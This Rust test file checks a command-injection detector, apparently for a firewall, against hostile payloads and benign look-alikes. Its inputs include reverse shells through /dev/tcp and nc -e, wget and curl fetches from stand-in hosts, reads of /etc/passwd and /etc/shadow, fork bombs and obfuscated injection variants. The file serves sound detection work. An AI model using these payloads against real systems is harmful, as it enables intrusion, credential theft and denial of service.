use super::detect;

/// The lowest level that flags `v` (1 = the level-1 rules), or 5 when none does.
fn lowest_level(v: &str) -> u8 {
    crate::detect::test_support::lowest_level(v, detect, super::paranoid)
}

#[test]
fn payloads() {
    for a in [
        ";/sbin/shutdown",
        "; cat /et'c/pa'ss'wd",
        "cmd=127.0.0.1 && ls /etc",
        "ax--exec=`id`--remote=origin",
        ";wget http://some_host/sh311.sh",
        "|getent hosts somehost.example.net.&",
        ";getent$IFS$9hosts$IFS$9somehost;echo$IFS$9$((3482*7301));",
        "| set /a 3482*7301",
        "$(whoami)",
        "127.0.0.1; ping -c 3 example.com",
        "x || curl http://evil",
        "cat /etc/passwd",
        "wget http://example.com/x.sh",
        "a\nid\n",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "nohup ifconfig",
        "ansible all -m ping",
        "/etc/pas[s]wd",
        "www.google.com;c$@at /et$@c/pas$@swd",
        "alias a=c${KK}url&a google.com",
        ":(){ :|:& };:",
        "f(){ f|f& };f",
        "/???/b??h",
        "/etc/[!abc]asswd",
        "/usr/[a-z]in/bash",
        "$((3482*7301))",
        ">(tee log)",
        "www.google.com;/bin/ca? /et*/passwd",
        ";iwr http://example.com/path/file.ps1",
        "$SHELL -c \"echo hi\"",
        "'i'fconfig",
        "python3.10 -c 'import os'",
        "IF %ERRORLEVEL% EQU 2 goto x",
        "for /l %%I in (0,1,5) do call echo %%RANDOM%%",
        "IF /I NOT EXIST C:\\nonexistent echo hey",
        "IF /I \"%var%\"==\"hello, world!\" ( ECHO found )",
    ] {
        assert!(detect(a), "missed: {a}");
    }
}

#[test]
fn benign() {
    for b in [
        "echo in the mirror",
        "curl and divergence",
        "exec noun",
        "bash away in the gym",
        "zsh is the best!",
        "ls 300 lexus",
        "nc 8000 controller",
        "Tom & Jerry",
        "salt & pepper; cat food",
        "R&D department",
        "a | b | c",
        "time he came.",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "rock & roll",
        "Q&A",
        "time is money",
        "Is it 50% off? [y] or [n]",
        "What's ${price}?",
        "function f() { return a || b && c; }",
        "if you exist, call me",
        "for all of us in the team, do your best",
        "Nice to meet you",
        "I'd watch it again",
        "https://app.example.com/dashboard?action=edit&id=123",
    ] {
        assert!(!detect(b), "false positive: {b}");
    }
}

#[test]
fn batch_control_flow() {
    for a in [
        "for /r c:\\ %variable in (set) do command",
        "For /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"",
        "FOR /F \"tokens=1\" %i IN (file.txt) DO echo %i",
        "IF 2 GEQ 15 echo \"bigger\"",
        "IF /I item1==item2 CMD",
        "IF /I NOT 1==2 CMD",
        "if not (2 equ 2) echo hey",
        "if \"A A\" == \"A A\" echo same",
        "if [AA] == [AA] echo same",
        "if/i a==b foo",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "if (a == b) return x;",
        "if a == b: print(a)",
        "if a == b then return end",
        "if [ \"$a\" == \"$b\" ]; then",
        "if x == y {",
        "I wonder if a==b holds",
        "for all of us in town do come",
        "if you want, 2 == 2",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn brace_expansion() {
    for a in [
        "{,ifconfig}",
        "{,ifconfig,eth0}",
        "{id,}",
        "{,echo,#test}",
        "{,cd,/etc,}",
        "{,$'whoami',}",
        "{,/?s?/?i?/c?t,/e??/p??s??,}",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "{id,name}",
        "{\"id\":1,}",
        "fields={id, name,}",
        "{,}",
        "{,apple,pear}",
        "{ls,}x is a set",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn sqlite_dot_commands() {
    for a in [
        ";\n.shell nc 10.10.10.1 6666 -e sh",
        "\";\n. shell nc 10.0.0.1 1 -e sh",
        "1;.sh whoami",
        "1;.\"shell whoami",
        ";\n.databases",
        "x; .system id",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "a; .5 litres",
        "end;.NET is great",
        "ratio;.s",
        "see file;.shellrc",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn empty_expansions_and_unset_variables() {
    for a in [
        "www.google.com;c$!at+/et$!c/pas$!swd",
        "ping`` 127.0.0.1",
        "pi``ng 127.0.0.1",
        "ping$() 127.0.0.1",
        "|$u wget test",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "Price: $1 (one dollar)",
        "use ``code`` in markdown",
        "x; $total cost",
        "a | $HOME directory",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn command_names_and_arguments() {
    for a in [
        ";c89 -wrapper sh,-c,id .\n",
        "time ifconfig\n",
        "nohup ifconfig\n",
        "/???/?s",
        "cd /;cd etc;column passwd",
        "x; cd /tmp",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "c89 is a C compiler",
        "time flies\n",
        "the c grade",
        "CD /DVD combo drive",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn parameter_expansion_tricks() {
    for a in ["${x#{}}", "${PATH#{}/}", "cd ${PATH:0:1}etc", "${HOME:~0}"] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "${name}",
        "${a % 2}",
        "${total%2}",
        "${1:2}",
        "${user.name}",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn fork_bombs() {
    for a in [
        ":(){ :|:& };:",
        "f(){ f & f; };f",
        "f(){ f() | f(); }; f",
        "f(){ f() & f(); }; f",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in ["f(){ g & h; }", "css{ a | b }", "f(){ return f; }"] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn special_parameters_and_glued_variables() {
    for a in [
        "x;c$?at /et$?c/hosts",
        "x;wh$-oami",
        "una$$me -a",
        "a;cat$z+/etc$z/shadow",
        "pi<()ng 10.0.0.1",
        "cu$@rl example.org",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "It costs US$? Ask us",
        "Ke$ha tickets",
        "ca$h back offer",
        "total: $$5 saved",
        "a <() b",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn assigned_variables() {
    for a in [
        "q=nc&&$q -lvp 4444",
        "x=who;y=ami;$x$y",
        "k=ifconf[i]g;$k eth0",
        "s=\\ ;c=cat;f=/etc/hosts;$c$s$f",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "price=5;total=$price",
        "a=1&b=2&c=$a",
        "name=John; greeting=Hello $name",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn spliced_words_and_braces() {
    for a in [
        "'u'name -a",
        "x; w\"h\"o -a",
        "n{c,-lvp}",
        "{u$x\\name,-a}",
        "{,$\"id\",}",
        "{/?s?/?i?/i?,}",
        "ca{t,x} /etc/hosts",
        "{p,-e}s",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "O'Neil's l's",
        "'ls' is short for list",
        "img{1,2}.png",
        "{\"id\",\"name\"}",
        "rock'n'roll",
        "it's 'ok'",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn binary_paths_and_new_commands() {
    for a in [
        "/usr/sbin/visudo",
        "bin/cscli",
        "/bin/chef-client",
        "1;rmt-tar",
        "x; regedit /S evil.reg",
        "a&bcdedit /set x",
        ";lastlog -u root",
        ";\\n.system id",
        "alias -p x=y",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "see https://example.com/bin/ls for details",
        "Top 10; at the store",
        "the chef & the knife",
        "recycle bin/trash",
        "my ip is dynamic",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn paranoia_levels() {
    for (v, want) in [
        ("cscli decisions list", 2),
        ("ansible-vault view secrets", 1),
        ("pip3 install requests", 2),
        ("x;who", 2),
        ("q=&top", 2),
        ("'ll' /srv", 2),
        ("\\ls", 2),
        ("k; $z cat notes.txt", 2),
        ("~+", 2),
        ("~-3", 2),
        ("{,top,}", 2),
        ("visudo", 3),
        ("chef-shell", 2),
        ("ansible-console", 2),
        ("run-parts", 2),
        ("ssh-keygen", 2),
        ("shutdown", 3),
        ("'id'", 2),
        ("x; top -b", 2),
        ("Meet me.\nAt noon we leave", 3),
        ("!!", 3),
        ("x !-2", 2),
        ("!1", 2),
        ("!-1!-2", 2),
        ("Bravo !!", 3),
        ("a `b`", 4),
        ("2>&1", 3),
        ("\r\nHELP me", 3),
        ("\r\nRCPT TO:<a@b.c>", 3),
        ("a|b", 4),
        ("a;b", 4),
        ("pay $amount", 4),
        ("O'keefe's", 4),
    ] {
        assert_eq!(lowest_level(v), want, "{v:?}");
    }
}

#[test]
fn prose_passes_level_two() {
    for b in [
        "python is great for data science",
        "bash away in the gym",
        "Tom & Jerry",
        "fish & chips",
        "AT&T",
        "R&D, Q&A and P&L",
        "Top 10 movies of the year",
        "I'd like to order 2 items; please deliver by Monday - thanks!",
        "echo in the mirror",
        "time flies when you have fun",
        "Find my order",
        "email@example.com; other@example.com",
        "color: red; font-size: 12px",
        "~5 minutes",
        "Help me find a gift",
        "The file is at /home/me/notes.txt",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn level_three_spares_prose_and_names() {
    for b in [
        "a hero; more than that, she said",
        "hello; time he came",
        "php",
        "base64",
        "id",
        "PS",
        "`col`",
        "Curtiss Robin; voló rutas",
    ] {
        assert!(
            lowest_level(b) > 3,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn tool_families_switches_and_quoted_flags() {
    for a in [
        "ansible-inventory --graph",
        "chef-solo recipe.rb",
        "x=1&schtasks/query",
        "kill '-'HUP 1",
        "/sbin/ab -n 1",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "ansible-based tooling",
        "chef-d'oeuvre of the season",
        "kill 'em all",
        "and/or",
        "TCP/IP",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
    assert_eq!(lowest_level("'i'p a"), 2);
}

#[test]
fn level_four_reads_any_command_word() {
    for (v, want) in [
        ("kill '-'9", 1),
        ("mount shelf", 4),
        ("&w (x", 4),
        ("id", 4),
        ("rc run.sh", 4),
    ] {
        assert_eq!(lowest_level(v), want, "{v:?}");
    }
}

#[test]
fn level_four_quotes_inside_words_only() {
    assert_eq!(lowest_level("Size: 8\"x10\""), 4);
    for b in ["{\"test\": \"data\"}", "this is a \"dog\"", "john.o'reilly"] {
        assert!(
            lowest_level(b) > 4,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn a_word_before_a_separator_is_not_its_command() {
    for a in ["id;", "ls |", "cat /etc/passwd & x", "date & whoami"] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "Cat & Dog",
        "Date & Time",
        "Sort | Filter",
        "Copy & Paste",
        "find & replace",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn trap_runs_its_quoted_command() {
    assert!(detect("x;trap 'curl -s a.example' EXIT"));
    for b in [
        "Tourist trap & more",
        "trap 'em all",
        "a speed trap; 'nuff said",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn binary_path_in_prose() {
    assert!(detect("/usr/bin/python -V"));
    assert!(!detect("/usr/bin/python is old"));
}

#[test]
fn search_and_names_pass_level_two() {
    for (b, above) in [
        ("id card holder", 2),
        ("Loved it!!! <3", 3),
        ("Date & Time Events", 3),
        ("Less & More Interiors", 3),
    ] {
        assert!(
            lowest_level(b) > above,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn language_names_lead_searches() {
    assert!(lowest_level("python (programming language)") > 2);
    assert_eq!(lowest_level("python3 -c 'import os'"), 1);
}

#[test]
fn a_redirection_needs_a_target() {
    for a in ["id>/tmp/x", "date >> /tmp/log", "ls>&2", "x;id>x"] {
        assert!(detect(a), "missed {a:?}");
    }
    // API filter syntax `field>=value`, a name ending in `>`
    for b in ["date>", "date>=2024-01-01", "time<=17:00", "date>>="] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn exclamations_are_no_history_expansion_at_level_two() {
    for b in [
        "Bravo !",
        "C'est génial !!",
        "Loved it!!! <3",
        "Win 1 of 3 prizes!1!",
        "Go!2 Fitness",
        "Order 5 !important",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn hyphenated_words_are_no_command_names() {
    for b in [
        "well-known",
        "run-time",
        "apt-get-out",
        "e-mail",
        "chef-d'oeuvre",
        "x-ray",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn at_schedules_with_a_time() {
    for a in [";at 2:00 \"echo test\"", "x|at now", "a&at 9pm"] {
        assert_eq!(lowest_level(a), 2, "{a:?}");
    }
    for b in [
        "Meet me at 2:00",
        "Lunch; at 2:00 we leave",
        "at 2:00 pm",
        "AT&T at 5:00",
        "x;at home",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn url_paths_and_plain_words_are_no_command_lines_at_level_two() {
    for b in [
        // a URL path's last segment reads by its name, as at the value's start
        "/search/id card holder",
        "/search/python (programming language)",
        "/search/find my phone",
        "/search/kill bill movie",
        "/search/which one is best",
        // a command that takes no operand is not run with a plain word after it
        "whoami game",
        "/search/whoami game",
        "pwd please",
        "uname linux",
        // a `(` after a command word is a syntax error
        "python (programming language)",
        "netstat (tool)",
        "find my phone",
        "kill bill movie",
        "which one is best",
        "id card holder",
        // a command that runs its operand runs nothing when the operand is no command
        "env shoes",
        "time travel movies",
        "nice weather today",
        "watch football online",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
    for (a, want) in [
        (";id", 1),
        ("id;", 1),
        ("|whoami", 1),
        ("$(whoami)", 1),
        ("whoami;", 1),
        ("whoami -u", 1),
        ("whoami --help", 1),
        (";whoami game", 1),
        ("x; whoami game", 1),
        ("whoami > /tmp/x", 1),
        ("python -c 'import os'", 1),
        ("/usr/bin/id card", 1),
        ("bin/id card", 1),
        ("./id card", 2),
        ("netstat tool", 2),
        ("/srv/netstat tool", 2),
        ("whoami", 3),
        ("env bash", 1),
        ("env X=1 id", 2),
        ("nohup nc -e sh", 1),
        ("time curl", 1),
        ("env -i", 1),
    ] {
        assert_eq!(lowest_level(a), want, "{a:?}");
    }
}

/// Code quoted in backticks inside a sentence (Markdown, reStructuredText) and a program's path
/// named in one are prose at levels 1 and 2; a substitution glued to a value, a span holding a
/// command list, a value that is only a span and a path before shell syntax stay caught.
#[test]
fn code_spans_and_program_paths_in_sentences() {
    for b in [
        "To see the full history of the package use `apt changelog foo`.",
        "Fixed a `rename` race that showed up on slow disks.",
        "``tool`` reads YAML and pipes it through ``jq`` for the filtering",
        "The `-o nonempty` option has been removed from the helper program",
        "Register /bin/more as the default pager only on Linux systems.",
        "Solaris 10 ships an old /bin/sh that lacks this feature entirely",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "`id`",
        "x`id`",
        "127.0.0.1`whoami`",
        "hello `cat /etc/passwd`",
        "please run this `id; uname -a` now for me",
        "a nice `sleep 5` | whoami then some words here",
        "/bin/sh -c id",
        ";/bin/more /etc/passwd",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}

/// A quoted command name heading a sentence and a bulleted path are prose at level 2; quoted
/// command names with arguments and hyphenated tools as the whole value stay caught.
#[test]
fn quoted_names_and_bullets_in_sentences() {
    for b in [
        "\"top\" is now about twice as fast as the old release",
        "- vendor/control-file",
        "- debian/control",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "\"cscli\" alerts list",
        "'ll' /var",
        "\"top\" -b -n 1 and then some more words here",
        "ssh-keygen",
        "chef-shell",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}

/// A program path as a sentence's last word and GNU `name' quotation in a sentence are prose;
/// a program path after a command or an option, or with shell syntax, stays caught.
#[test]
fn program_named_last_and_gnu_quotes() {
    for b in [
        "Port the test scripts to Solaris 10's /bin/sh.",
        "Port to the old /bin/sh",
        "* `zless' is now always installed as `zless', not `gzless'.",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "nc 10.0.0.1 4444 -e /bin/sh",
        "exec /bin/sh",
        "x && /bin/sh",
        "please `id' now",
        "a `sleep 5` b",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}

/// A command name used as a changelog label (`name: text`) is no command; the command with a
/// real argument, or after a separator, stays caught.
#[test]
fn command_names_as_labels() {
    for b in [
        "top: document the -b and -n options",
        "* vmstat: add the -w option to widen the output",
        "sysctl: -q and -N options",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "top -b -n 1",
        "x; ps -ef",
        "sysctl -a",
        "a;id:",
        "ping: ; id",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}

/// A clause after `; ` that starts with a command name and goes on in plain words is prose; a
/// command after `;` with an option, a path, a quote or a short argument list stays caught.
#[test]
fn clauses_after_semicolons() {
    for b in [
        "The old variable is obsolete now; gzip now warns when it is set",
        "it reads the index first; unzip can then seek straight to the member",
    ] {
        assert!(
            lowest_level(b) > 1,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "x; id",
        "x; uname -a",
        "x; cat /etc/passwd",
        "x; wget example.com/s.sh and then run it for me",
        "x;id and some more words here",
        "x; reboot now",
        "x; 'i'd and some more words here",
    ] {
        assert!(lowest_level(a) <= 1, "missed {a}");
    }
}
